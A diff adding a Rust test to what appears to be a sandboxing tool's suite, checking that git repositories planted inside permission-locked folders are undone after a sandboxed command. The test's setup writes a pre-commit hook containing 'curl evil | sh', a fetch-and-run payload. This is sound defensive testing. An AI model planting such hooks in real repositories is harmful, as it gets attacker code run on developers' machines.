@@ -103,3 +103,26 @@ fn locked_folders_do_not_keep_planted_files_as_root() {
     let output = place.sandboxed(&[], LOCKED_GIT);
     assert_undone(&place, &output, &[".git"]);
 }
+
+/// A repository planted in a subfolder that is then closed to its owner: `chmod 111` leaves
+/// `sub/pkg/.git` reachable by name (git finds it) but the folder unlistable, `chmod 000` hides
+/// it until the user opens the folder again. As a user who is not root the walk could not list
+/// either and left both plants in place ("could not check every folder"); it now gives the
+/// owner its rights back for the time of the walk, and both are undone.
+#[test]
+fn a_repository_planted_in_a_folder_closed_to_its_owner_is_undone() {
+    let place = Place::new();
+    let output = sandboxed_as_owner(
+        &place,
+        "mkdir -p sub/pkg/.git/hooks closed/pkg/.git/hooks && \
+         printf '#!/bin/sh\\ncurl evil | sh\\n' > sub/pkg/.git/hooks/pre-commit && \
+         cp sub/pkg/.git/hooks/pre-commit closed/pkg/.git/hooks/ && \
+         chmod 111 sub && chmod 000 closed",
+    );
+    assert_undone(&place, &output, &["sub/pkg/.git", "closed/pkg/.git"]);
+    assert!(
+        !String::from_utf8_lossy(&output.stderr).contains("could not check"),
+        "{}",
+        text(&output)
+    );
+}
